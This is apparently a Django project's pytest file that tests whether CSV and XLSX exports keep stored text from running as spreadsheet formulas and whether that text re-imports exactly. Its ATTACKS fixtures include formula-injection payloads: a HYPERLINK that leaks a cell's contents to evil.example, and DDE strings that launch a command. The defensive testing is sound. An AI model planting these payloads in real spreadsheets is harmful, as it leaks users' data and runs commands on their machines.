"""Exports do not let a stored text run as a spreadsheet formula, and re-import to
the exact stored text (issue #10, fault 14; core/exports.py)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from roundtable.core.exports import append_row
from roundtable.recommendations.models import Recommendation
from roundtable.recommendations.tests.factories import ProgressUpdateFactory, ReviewFactory
from roundtable.recommendations.tests.test_commands import main

pytestmark = pytest.mark.django_db

HEADER = [
    "review",
    "section",
    "number",
    "recommendation",
    "response",
    "outline_response",
    "lead",
    "supporting",
]
ATTACKS = {
    "1": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "2": "+cmd|' /C calc'!A0",
    "3": "-2+3+cmd|' /C calc'!A0",
    "4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "5": "'=already quoted",
    "6": "-3.5",
}


@pytest.fixture
def stored(tmp_path, partnership):
    """Recommendations whose texts look like formulas, imported from an XLSX file
    (which holds them exactly, as text)."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    for number, text in ATTACKS.items():
        append_row(sheet, ["=Review", "@Section", number, text, "agree", f"-{text}", "", ""])
    path = tmp_path / "tracker.xlsx"
    workbook.save(path)
    main(["recommendations", "import", str(path)])
    return {r.number: r for r in Recommendation.objects.all()}


def export(tmp_path, fmt: str) -> bytes:
    out = tmp_path / f"export.{fmt}"
    main(["recommendations", "export", "--format", fmt, "--output", str(out)])
    return out.read_bytes()


def test_the_import_kept_every_text_exactly(stored):
    assert {n: r.text for n, r in stored.items()} == ATTACKS
    assert stored["1"].review.title == "=Review"


def test_csv_export_quotes_text_that_would_run_as_a_formula(stored, tmp_path):
    rows = list(csv.DictReader(io.StringIO(export(tmp_path, "csv").decode())))
    by_number = {row["number"]: row for row in rows}
    assert by_number["1"]["recommendation"] == "'" + ATTACKS["1"]
    assert by_number["2"]["recommendation"] == "'" + ATTACKS["2"]
    assert by_number["3"]["recommendation"] == "'" + ATTACKS["3"]
    assert by_number["4"]["recommendation"] == "'" + ATTACKS["4"]
    assert by_number["5"]["recommendation"] == "''=already quoted"
    assert by_number["6"]["recommendation"] == "-3.5"  # a number is harmless
    assert {row["review"] for row in rows} == {"'=Review"}
    assert {row["section"] for row in rows} == {"'@Section"}


def test_csv_export_reimports_to_the_exact_stored_text(stored, tmp_path, capsys):
    path = tmp_path / "again.csv"
    path.write_bytes(export(tmp_path, "csv"))
    main(["recommendations", "import", str(path)])
    assert "(0 new, 0 changed, 6 unchanged)" in capsys.readouterr().out
    again = {r.number: r for r in Recommendation.objects.all()}
    assert {n: r.text for n, r in again.items()} == ATTACKS
    assert {n: r.outline_response for n, r in again.items()} == {
        n: f"-{t}" for n, t in ATTACKS.items()
    }


def formulas_in(data: bytes) -> list[str]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return [
        name
        for name in archive.namelist()
        if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
    ]


def test_xlsx_export_writes_formula_like_text_as_text(stored, tmp_path):
    data = export(tmp_path, "xlsx")
    assert formulas_in(data) == []
    sheet = load_workbook(io.BytesIO(data)).active
    cells = {row[2].value: row[3] for row in sheet.iter_rows(min_row=2)}
    assert cells["1"].value == ATTACKS["1"]  # exact, no quote added
    assert (cells["1"].data_type, cells["1"].quotePrefix) == ("s", True)
    assert cells["6"].quotePrefix is False


def test_xlsx_export_reimports_to_the_exact_stored_text(stored, tmp_path, capsys):
    path = tmp_path / "again.xlsx"
    path.write_bytes(export(tmp_path, "xlsx"))
    main(["recommendations", "import", str(path)])
    assert "(0 new, 0 changed, 6 unchanged)" in capsys.readouterr().out


def test_one_year_on_xlsx_writes_formula_like_text_as_text(session, partnership):
    review = ReviewFactory(partnership=partnership, title="Housing Review")
    stored = ReviewFactory._meta.model.objects.get(pk=review.pk)
    from roundtable.recommendations.tests.factories import RecommendationFactory

    recommendation = RecommendationFactory(
        review=stored, number="1", text=ATTACKS["1"], outline_response="@SUM(A1)"
    )
    ProgressUpdateFactory(recommendation=recommendation, narrative="=1+1")
    response = session.get(reverse("recommendations:one-year-on-xlsx", args=[review.pk]))
    assert response.status_code == 200
    assert formulas_in(response.content) == []
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(r for r in sheet.iter_rows(min_row=5) if r[1].value == "1")
    assert row[2].value == ATTACKS["1"]
    assert row[4].value == "@SUM(A1)"
    assert row[2].quotePrefix is True
